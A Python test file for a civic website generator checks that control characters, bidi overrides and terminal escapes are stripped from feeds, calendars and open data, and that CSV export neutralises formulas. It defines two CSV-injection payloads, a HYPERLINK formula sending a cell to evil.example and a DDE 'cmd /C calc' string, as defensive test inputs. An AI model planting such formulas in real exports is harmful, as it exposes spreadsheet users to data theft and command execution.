"""Every output drops the same characters (talkoot.vocabulary.characters); open data
opens safely.

The content model refuses controls, so text with them cannot come from `content/`; these
tests put them into loaded content directly, as a bug upstream or a future field might,
and render every output of the site from it. The CSV test runs a real build.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import feedparser
import icalendar
import pytest
import yaml

from conftest import build_site
from talkoot.content.load import Content, dump, load
from talkoot.site.context import SiteInfo
from talkoot.site.opendata import CSV_NOTE, Record, to_csv
from talkoot.site.pages import Site
from talkoot.site.render import Page
from talkoot.vocabulary import characters

CASES = Path(__file__).parent / "content_cases"
BASE: dict[str, str] = yaml.safe_load((CASES / "_base.yml").read_text(encoding="utf-8"))
SITE_URL = "https://talkoot.example/"
CONTROLS = "\x0b\x1b\x01"
# Everything the writers must drop, as one regular expression over their output.
DROPPED = re.compile("[" + "".join(re.escape(chr(code)) for code in characters.DROPPED) + "]")


def _content_with_controls() -> Content:
    """The base content set, with controls, line breaks and bidi overrides injected into
    everything that reaches an output: names, titles, texts, packages."""
    files = {
        **BASE,
        "packages/2023/osaajat.yml": dump(
            "packages/2023/osaajat.yml",
            {
                "edition": 2023,
                "slug": "osaajat",
                "title": "Osaajat",
                "description": "Kokonaisuus.",
                "workshops": ["teollisuus"],
                "proposals": [12],
                "city_role": "suora",
                "responsible_unit": "Elinvoima",
                "status": "kaynnissa",
                "progress": 40,
            },
        ),
    }
    content = load(files)
    event = content.events[2023]
    content.events[2023] = event.model_copy(
        update={
            "name": f"Talkoot\r2023{CONTROLS}",
            "description": f"Kuvaus{CONTROLS}\u202e\ud800",
            "organiser": event.organiser.model_copy(update={"name": f"Kaupunki\n{CONTROLS}"}),
        }
    )
    (workshop,) = content.workshops[2023]
    content.workshops[2023] = [workshop.model_copy(update={"name": f"Teollisuus\n{CONTROLS}"})]
    (proposal,) = content.proposals
    content.proposals = [
        proposal.model_copy(
            update={
                "title": f"Osaajien{CONTROLS} saatavuus",
                "challenge": "Haaste\x0bja\x1b[31mpunainen\x01\ufffe\u202e",
                "organisation": f"Oy{CONTROLS}",
            }
        )
    ]
    (package,) = content.packages[2023]
    content.packages[2023] = [package.model_copy(update={"title": f"Osaajat{CONTROLS}"})]
    return content


@pytest.fixture(scope="module")
def pages() -> dict[str, str | bytes]:
    info = SiteInfo(
        site_url=SITE_URL,
        repo_url=None,
        now=dt.datetime(2023, 12, 1, 12, tzinfo=dt.UTC),
    )
    generated: list[Page] = list(Site(_content_with_controls(), info).generate())
    return {page.path: page.content for page in generated}


def test_no_output_carries_a_dropped_character(pages: dict[str, str | bytes]) -> None:
    for path, content in pages.items():
        if path.endswith(".png"):  # pictures (tests/test_share.py)
            continue
        text = content if isinstance(content, str) else content.decode("utf-8")
        assert not DROPPED.search(text), path


def test_feeds_parse_and_carry_the_proposal(pages: dict[str, str | bytes]) -> None:
    title = "Osaajien saatavuus"
    for path in ("syotteet/ehdotukset.xml", "2023/tyopajat/teollisuus-ehdotukset.xml"):
        raw = pages[path]
        assert isinstance(raw, bytes)
        root = ET.fromstring(raw)  # raises on a character XML 1.0 forbids
        atom = "{http://www.w3.org/2005/Atom}"
        assert [e.findtext(f"{atom}title") for e in root.iter(f"{atom}entry")] == [title]
        feed = feedparser.parse(raw)
        assert feed.bozo == 0, feed.get("bozo_exception")
        assert [e.title for e in feed.entries] == [title]
        assert feed.entries[0].summary == "Haasteja[31mpunainen"
        assert feed.entries[0].link == f"{SITE_URL}2023/ehdotukset/12/"
    assert ET.fromstring(pages["2023/tyopajat/teollisuus-tilamuutokset.xml"]) is not None


def test_calendars_keep_names_on_one_line(pages: dict[str, str | bytes]) -> None:
    for path in ("2023/talkoot-2023.ics", "2023/tyopajat/teollisuus.ics"):
        raw = pages[path]
        assert isinstance(raw, bytes)
        lines = raw.split(b"\r\n")
        # no raw CR or LF inside a content line (the lone CR of the event's name included)
        assert all(b"\r" not in line and b"\n" not in line for line in lines)
        calendar = icalendar.Calendar.from_ical(raw)
        (event,) = calendar.walk("VEVENT")
        assert str(calendar["X-WR-CALNAME"]) == str(event["SUMMARY"])
        assert str(event["ORGANIZER"].params["CN"]) == "Kaupunki"
        assert str(event["DESCRIPTION"]).startswith("Kuvaus\n\n")
    workshop = icalendar.Calendar.from_ical(pages["2023/tyopajat/teollisuus.ics"])
    assert str(workshop["X-WR-CALNAME"]) == "Työpaja: Teollisuus – Talkoot 2023"


def test_open_data_keeps_the_text_without_the_controls(pages: dict[str, str | bytes]) -> None:
    raw = pages["data/ehdotukset.json"]
    assert isinstance(raw, bytes)
    (item,) = json.loads(raw)["items"]
    assert (item["title"], item["organisation"]) == ("Osaajien saatavuus", "Oy")
    assert item["workshop_name"] == "Teollisuus\n"  # data keeps line breaks
    rows = list(csv.DictReader(io.StringIO(bytes(pages["data/ehdotukset.csv"]).decode("utf-8"))))
    assert (rows[0]["title"], rows[0]["challenge"]) == (
        "Osaajien saatavuus",
        "Haasteja[31mpunainen",
    )
    page = pages["avoin-data.md"]
    assert isinstance(page, str) and "heittomerkki" in page


class _Numbers(Record):
    id: int
    delta: int
    share: float
    label: str
    note: str | None
    tags: list[str]
    numbers: list[int]


def test_csv_neutralises_formulas_but_not_numbers() -> None:
    records = [
        _Numbers(
            id=1,
            delta=-5,
            share=-1.5,
            label="-5",
            note="@SUM(1+1)",
            tags=["=1+1", "b"],
            numbers=[-1, 2],
        ),
        _Numbers(id=2, delta=3, share=0.5, label="+358", note="\tx", tags=[], numbers=[]),
        _Numbers(id=3, delta=0, share=0, label="\rx", note=None, tags=["a", "=b"], numbers=[1]),
    ]
    rows = list(csv.reader(io.StringIO(to_csv(records, _Numbers).decode("utf-8"))))
    assert rows[1:] == [
        ["1", "-5", "-1.5", "'-5", "'@SUM(1+1)", "'=1+1; b", "-1; 2"],
        ["2", "3", "0.5", "'+358", "'\tx", "", ""],
        ["3", "0", "0.0", "'\rx", "", "a; =b", "1"],
    ]


FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Lisää")'
FORMULA_ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.build
def test_formulas_in_a_real_build(tmp_path: Path) -> None:
    content = tmp_path / "content"
    files = dict(BASE)
    proposal = yaml.safe_load(files["proposals/2023/12-osaajat.yml"])
    proposal.update(title=FORMULA_TITLE, organisation=FORMULA_ORGANISATION, impact="-12 %")
    files["proposals/2023/12-osaajat.yml"] = dump("proposals/2023/12-osaajat.yml", proposal)
    for rel, text in files.items():
        (content / rel).parent.mkdir(parents=True, exist_ok=True)
        (content / rel).write_text(text, encoding="utf-8")
    site = tmp_path / "site"
    result = build_site(site, content)
    assert result.returncode == 0, result.stderr

    (item,) = json.loads((site / "data" / "ehdotukset.json").read_text(encoding="utf-8"))["items"]
    assert (item["title"], item["organisation"], item["impact"]) == (
        FORMULA_TITLE,
        FORMULA_ORGANISATION,
        "-12 %",
    )
    raw = (site / "data" / "ehdotukset.csv").read_bytes().decode("utf-8")
    (row,) = csv.DictReader(io.StringIO(raw))
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["organisation"] == "'" + FORMULA_ORGANISATION
    assert row["impact"] == "'-12 %"
    assert (row["id"], row["edition"]) == ("12", "2023")
    # every cell of the file: none starts a formula
    for cells in csv.reader(io.StringIO(raw)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    schema = json.loads((site / "data" / "ehdotukset.schema.json").read_text(encoding="utf-8"))
    assert CSV_NOTE in schema["description"]
    page = (site / "avoin-data" / "index.html").read_text(encoding="utf-8")
    assert "heittomerkki" in page
